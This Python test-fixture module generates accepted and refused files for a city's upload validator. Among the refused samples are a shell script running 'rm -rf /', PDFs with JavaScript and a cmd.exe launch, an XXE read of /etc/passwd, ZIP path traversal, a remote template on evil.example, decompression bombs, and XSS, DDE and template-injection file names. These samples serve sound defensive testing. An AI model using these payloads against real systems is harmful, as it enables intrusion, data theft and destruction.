"""Files that somebody might send to a city's desk on purpose or by mistake: good ones, broken ones, hostile ones (promise B4).

Each is made here, byte by byte where need be, so that none has to be kept in the repository.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MAIN = {
    "docx": ("word/document.xml", WORD),
    "pptx": ("ppt/presentation.xml", SLIDES),
    "xlsx": ("xl/workbook.xml", SHEET),
}


@dataclass(frozen=True, slots=True)
class Sent:
    """A file as somebody sends it. `why` is a part of the refusal's sentence, None for a file that is taken."""

    what: str
    name: str
    data: bytes
    why: str | None = None


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), colour: str = "red", **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, kind, **options)
    return buffer.getvalue()


def photograph_with_place() -> bytes:
    """A picture that lies on its side and tells camera and place, as telephones make them."""
    image = Image.new("RGB", (80, 40), "green")
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turned by a quarter
    exif[0x010F] = "SECRET CAMERA"
    exif.get_ifd(0x8825).update({1: "N", 2: (23.0, 8.0, 0.0), 3: "E", 4: (113.0, 16.0, 0.0)})
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"SECRET COMMENT")
    return buffer.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A tiny PNG that says it is large: nothing but zeros, which compress to nothing."""
    rows = zlib.compressobj(9)
    data = b"".join(rows.compress(b"\x00" * (width + 1)) for _ in range(height)) + rows.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png_with_text(text: bytes) -> bytes:
    """A picture whose compressed comment unpacks to much more than it is."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode("latin-1"), zip=True)
    return picture("PNG", pnginfo=info)


def pdf(pages: int = 1, change: Callable[[pikepdf.Pdf], None] = lambda _: None, **options: object) -> bytes:
    """A PDF of small pages, each with a square."""
    buffer = io.BytesIO()
    with pikepdf.new() as document:
        for number in range(pages):
            page = document.add_blank_page(page_size=(300, 400))
            page.contents_add(f"1 0 0 rg {20 + number} 20 100 100 re f".encode())
        change(document)
        document.save(buffer, **options)
    return buffer.getvalue()


def _open_action(action: Mapping[str, object]) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(action)

    return change


def _named_script(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=names)


def _script_of_a_field(document: pikepdf.Pdf) -> None:
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, Rect=[0, 0, 9, 9], T="a",
        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
    )  # fmt: skip
    widget = document.make_indirect(field)
    document.pages[0].Annots = pikepdf.Array([widget])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))


def _words_about_scripts(document: pikepdf.Pdf) -> None:
    document.docinfo["/Title"] = "How /JS and /JavaScript were avoided; /Launch of the programme"


def office(kind: str = "docx", more: Mapping[str, bytes] | None = None, *, content_type: str | None = None) -> bytes:
    """The smallest Office file that opens, with more parts if given."""
    part, main = MAIN[kind]
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{content_type or main}"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(part, '<?xml version="1.0"?><document/>')
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _relation(kind: str) -> bytes:
    address = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships><Relationship Id="r1" Type="{address}/{kind}" Target="https://evil.example/a" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def _zeros(n: int) -> bytes:
    return b"\x00" * n


def _locked_office() -> bytes:
    """Every member marked as encrypted, in both places where a ZIP says so."""
    data = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _overlapping_office() -> bytes:
    """Two entries of the directory that point at one member: a bomb of the overlapping kind in small."""
    data = bytearray(office(more={"word/a.xml": b"a" * 50, "word/b.xml": b"b" * 50}))
    first = data.find(b"word/a.xml", data.find(b"PK\x01\x02")) - 46
    second = data.find(b"word/b.xml", data.find(b"PK\x01\x02")) - 46
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _says_it_is_large() -> bytes:
    """A member that claims 600 MB in the archive's directory."""
    data = bytearray(office(more={"word/big.xml": b"x" * 90}))
    at = data.find(b"word/big.xml", data.find(b"PK\x01\x02")) - 46
    data[at + 24 : at + 28] = struct.pack("<I", 600_000_000)
    return bytes(data)


def _many_members() -> bytes:
    return office(more={f"word/media/{n}": b"" for n in range(1100)})


def _doubled_member() -> bytes:
    buffer = io.BytesIO(office())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.filename = None
        archive.NameToInfo.clear()
        archive.writestr("word/document.xml", "<other/>")
    return buffer.getvalue()


def _flipped(data: bytes, at: float) -> bytes:
    changed = bytearray(data)
    changed[int(len(changed) * at)] ^= 0xFF
    return bytes(changed)


def _pdf_bomb() -> bytes:
    """A cross-reference stream that unpacks to a thousand times its size."""
    body = zlib.compress(_zeros(200_000_000), 1)
    head = (
        b"%PDF-1.5\n1 0 obj\n<</Type/XRef/Size 9/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length "
        + str(len(body)).encode()
    )
    return head + b">>\nstream\n" + body + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"


HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

SCRIPT_NAMES = (
    "年度报告（最终版）.jpg", "廣州創新.jpg", "ラジオ体操.jpg", "도시 혁신.jpg", "отчёт.jpg", "τέλος.jpg", "תוכנית.jpg",
    "خطة المدينة.jpg", "नगर योजना.jpg", "แผนเมือง.jpg", "ქალაქი.jpg", "ከተማ.jpg", "எங்கள் நகரம்.jpg", "Ñandú – “plan” 🌳.jpg",
)  # fmt: skip


def good() -> Iterator[Sent]:
    """What is taken, with names in many scripts."""
    yield Sent("JPEG", "one.jpg", picture())
    yield Sent("JPEG with another ending", "one.JPEG", picture(colour="blue"))
    yield Sent("PNG", "one.png", picture("PNG"))
    yield Sent("WebP", "one.webp", picture("WEBP"))
    yield Sent("progressive JPEG", "p.jpg", picture(progressive=True, size=(300, 200)))
    yield Sent("JPEG of two pictures, as cameras make them", "mpo.jpg", _two_pictures())
    yield Sent("PNG with transparency", "clear.png", _clear_png())
    yield Sent("PDF", "one.pdf", pdf())
    yield Sent("PDF with object streams", "packed.pdf", pdf(3, object_stream_mode=pikepdf.ObjectStreamMode.generate))
    yield Sent(
        "PDF that anyone may open but not change", "owner.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user=""))
    )
    yield Sent("PDF whose title speaks of scripts", "title.pdf", pdf(change=_words_about_scripts))
    for kind in MAIN:
        yield Sent(kind.upper(), f"one.{kind}", office(kind))
    yield Sent("DOCX with a link", "link.docx", office(more={"word/_rels/document.xml.rels": _relation("hyperlink")}))
    for number, name in enumerate(SCRIPT_NAMES):
        yield Sent("name in a script", name, picture(size=(50 + number, 30)))


def _two_pictures() -> bytes:
    buffer = io.BytesIO()
    second = Image.new("RGB", (40, 30), "blue")
    Image.new("RGB", (40, 30), "red").save(buffer, "MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def _clear_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (40, 30), (255, 0, 0, 60)).save(buffer, "PNG")
    return buffer.getvalue()


def bad() -> Iterator[Sent]:
    """What is refused, with a part of the reason."""
    jpeg, png = picture(size=(400, 300)), picture("PNG", size=(400, 300))
    javascript, launch = pikepdf.Name.JavaScript, pikepdf.Name.Launch
    yield Sent("nothing", "nothing.pdf", b"", "is empty")
    yield Sent("text", "notes.pdf", b"plain text", "plain text")
    yield Sent("Chinese text in another encoding", "notes.pdf", "城市创新奖的说明文字".encode("gb18030"), "plain text")
    yield Sent("web page called PDF", "report.pdf", HTML, "a web page")
    yield Sent("web page called JPEG", "photo.jpg", b"\xef\xbb\xbf  " + HTML, "a web page")
    yield Sent("script called PNG", "photo.png", b"<script>alert(1)</script>", "a web page")
    yield Sent("SVG", "logo.svg", SVG, "an SVG drawing")
    yield Sent("SVG called PNG", "logo.png", SVG, "an SVG drawing")
    yield Sent("Windows program called PDF", "invoice.pdf", b"MZ\x90\x00" + _zeros(200), "a program")
    yield Sent("Linux program called DOCX", "a.docx", b"\x7fELF\x02\x01" + _zeros(200), "a program")
    yield Sent("shell script", "a.pdf", b"#!/bin/sh\nrm -rf /\n", "a program")
    yield Sent("ZIP", "all.zip", _plain_zip(), "an archive")
    yield Sent("ZIP called DOCX", "all.docx", _plain_zip(), "an archive")
    yield Sent("RAR called PDF", "all.pdf", b"Rar!\x1a\x07\x00" + _zeros(90), "an archive")
    yield Sent("old Word file", "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _zeros(600), "old kind")
    yield Sent("old Word file called DOCX", "old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _zeros(600), "old kind")
    yield Sent("GIF", "move.gif", picture("GIF"), "a GIF picture")
    yield Sent("TIFF called JPEG", "scan.jpg", picture("TIFF"), "a TIFF picture")
    yield Sent("HEIC of a telephone", "IMG_1.jpg", b"\x00\x00\x00\x18ftypheic" + _zeros(90), "HEIC")
    yield Sent("video", "film.pdf", b"\x00\x00\x00\x18ftypisom" + _zeros(90), "a video")
    yield Sent("noise", "noise.pdf", bytes((n * 97 + 31) % 256 for n in range(900)), "not known here")
    yield Sent("JPEG called PNG", "two.png", jpeg, "is a JPEG by its content")
    yield Sent("PDF called JPEG", "scan.jpg", pdf(), "is a PDF by its content")
    yield Sent("DOCX called XLSX", "table.xlsx", office("docx"), "is a DOCX by its content")
    yield Sent("PDF without ending", "report", pdf(), "ends in “?”")
    yield Sent("PDF with two endings", "report.pdf.exe", pdf(), "ends in “.exe”")
    yield Sent("web page and PDF at once", "both.pdf", HTML[:40] + pdf(), "damaged")
    yield Sent("GIF and PDF at once", "both.pdf", b"GIF89a/*" + pdf(), "damaged")
    yield Sent("half a PDF's name", "half.pdf", b"%PDF-1.7 and nothing else", "damaged")
    yield Sent("PDF without pages", "none.pdf", pdf(0), "no pages")
    yield Sent("PDF with a password", "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "password")
    action = {"/S": javascript, "/JS": "app.alert(1)"}
    yield Sent(
        "PDF that runs a script when opened", "script.pdf", pdf(change=_open_action(action)), "carries a program"
    )
    started = {"/S": launch, "/F": "cmd.exe"}
    yield Sent("PDF that starts a program", "start.pdf", pdf(change=_open_action(started)), "carries a program")
    yield Sent("PDF with a named script", "named.pdf", pdf(change=_named_script), "carries a program")
    yield Sent("PDF with a script of a field", "field.pdf", pdf(change=_script_of_a_field), "carries a program")
    hidden = pdf(change=_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield Sent("PDF with a script in a packed object", "packed.pdf", hidden, "carries a program")
    masked = pdf(change=_open_action(action)).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4aS ")
    yield Sent("PDF with a script under a masked name", "masked.pdf", masked, "carries a program")
    yield Sent("PDF bomb", "bomb.pdf", _pdf_bomb(), "")
    yield Sent("JPEG that stops", "half.jpg", jpeg[: len(jpeg) // 2], "not copied to its end")
    yield Sent("PNG that stops", "half.png", png[: len(png) // 2], "not copied to its end")
    yield Sent("PNG with a flipped byte", "flip.png", _flipped(png, 0.5), "damaged")
    yield Sent("JPEG's beginning and nothing else", "start.jpg", b"\xff\xd8\xff\xe0", "damaged")
    yield Sent("picture of 100 megapixels", "huge.png", png_of(10_000, 10_000), "megapixels")
    yield Sent("picture bomb of 30,000 by 30,000", "bomb.png", png_of(30_000, 2_000), "megapixels")
    yield Sent("picture with an exploding comment", "text.png", png_with_text(_zeros(80_000_000)), "damaged")
    yield Sent("DOCX with macros", "macro.docx", office(more={"word/vbaProject.bin": b"x"}), "macros")
    yield Sent("macros under another case", "macro.docx", office(more={"word/VBAPROJECT.BIN": b"x"}), "macros")
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Sent("macro file under a quiet name", "quiet.docx", office(content_type=enabled), "macros")
    yield Sent(
        "XLSX with an old macro sheet", "m.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"
    )
    yield Sent("PPTX with controls", "c.pptx", office("pptx", {"ppt/activeX/activeX1.bin": b"x"}), "macros")
    template = office(more={"word/_rels/settings.xml.rels": _relation("attachedTemplate")})
    yield Sent("DOCX with a template from elsewhere", "template.docx", template, "macros")
    yield Sent("DOCX that unpacks to 600 MB", "bomb.docx", _says_it_is_large(), "unpacks")
    yield Sent("DOCX of 1,100 members", "many.docx", _many_members(), "unpacks")
    yield Sent("DOCX with overlapping members", "overlap.docx", _overlapping_office(), "unpacks")
    yield Sent("DOCX with a member twice", "twice.docx", _doubled_member(), "damaged")
    yield Sent("DOCX with a password on its members", "locked.docx", _locked_office(), "password")
    yield Sent("DOCX that climbs out", "climb.docx", office(more={"../../etc/cron.d/x": b"x"}), "damaged")
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield Sent("DOCX with entities", "entity.docx", office(more={"word/x.xml": entity}), "damaged")
    yield Sent("DOCX with a flipped byte", "flip.docx", _flipped(office(more={"word/media/a": jpeg}), 0.4), "damaged")
    yield Sent("DOCX without its end", "end.docx", office()[:-30], "damaged")
    yield Sent("DOCX of the wrong main type", "odd.docx", office(content_type="text/plain"), "damaged")


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "a")
    return buffer.getvalue()


# Names that a browser or a program may send, and what is kept of each; None where nothing is left.
ODD_NAMES: tuple[tuple[str, str | None], ...] = (
    ("../../etc/passwd.jpg", "passwd.jpg"),
    ("C:\\fakepath\\plan.jpg", "plan.jpg"),
    ("invoice\u202egpj.exe.jpg", "invoicegpj.exe.jpg"),
    ("zero\x00byte.jpg", "zerobyte.jpg"),
    ("half \udc80\ud83d broken.jpg", "half  broken.jpg"),
    ("x" * 400 + ".jpg", "x" * 196 + ".jpg"),
    ('"><img src=x onerror=alert(1)>.jpg', '"><img src=x onerror=alert(1)>.jpg'),
    ("=cmd|' !A0.jpg", "=cmd|' !A0.jpg"),
    ("{{ 7*7 }}.jpg", "{{ 7*7 }}.jpg"),
    ("CON.jpg", "CON.jpg"),
    (" . .jpg", "jpg"),
    ("...", None),
)
